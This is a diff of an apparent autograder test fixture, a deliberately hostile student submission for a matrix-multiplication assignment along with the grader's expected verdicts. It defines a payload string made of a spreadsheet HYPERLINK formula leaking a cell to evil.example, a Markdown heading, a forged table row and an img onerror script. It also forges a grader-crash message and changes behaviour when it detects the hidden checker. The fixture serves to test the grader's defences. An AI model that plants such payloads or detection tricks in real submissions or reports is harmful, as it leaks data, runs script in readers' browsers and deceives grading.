@@ -2,14 +2,14 @@
 # forged diagnosis line of a class the grader does not have, raised from graded functions with messages that are a
 # spreadsheet formula, a Markdown heading, a table row and an <img onerror>. They once wrote the reason column
 # ("timeout", "kernel died", a =HYPERLINK) and report.md; now each is an error in the grader's own words. The last
-# answer is right in the kernel and raises the payload where the trusted re-check runs it: a tampering zero whose
-# reason says what the re-check found, without the student's exception.
+# answer is right in the kernel and raises the payload where the hidden checks run it (the trusted checker's worker):
+# an `error` zero, whose sentence is the grader's, without the student's exception.
 # assignment: 01_matmul_from_shapes
 # expect: test_linear_backward zero - error: the test cell raised an exception of the submission's own
 # expect: test_linear_bias_backward zero - error: the test cell raised an exception of the submission's own
 # expect: test_reduce_to_shape zero - error: the test cell raised an exception of the submission's own
 # expect: test_name_the_bug zero - error: the test cell raised an exception of the submission's own
-# expect: test_batched_matmul_backward zero tampering tampering: passed in the kernel, but the trusted re-check found error: the student's code raised an exception
+# expect: test_batched_matmul_backward zero error
 # %% linear_backward
 PAYLOAD = ('=HYPERLINK("http://evil.example/?leak="&A1,"regrade")\n# Injected heading\n'
            '<img src=x onerror="alert(document.domain)"> | forged | row |')
@@ -44,7 +44,7 @@ def name_the_bug(backward):
     raise GradingFailure("diagnosis: grader-crashed — the grader crashed, not your code: ask for a regrade " + PAYLOAD)
 # %% batched_matmul_backward
 def batched_matmul_backward(a, c, dy):
-    if getattr(get_ipython(), "kernel", None) is None:  # not the kernel: the value worker of the re-check
+    if getattr(get_ipython(), "kernel", None) is None:  # not the kernel: the value worker of the hidden checks
         raise RuntimeError("kernel died: " + PAYLOAD)
     da, dc = dy @ c.mT, a.mT @ dy
     if dc.ndim > c.ndim:
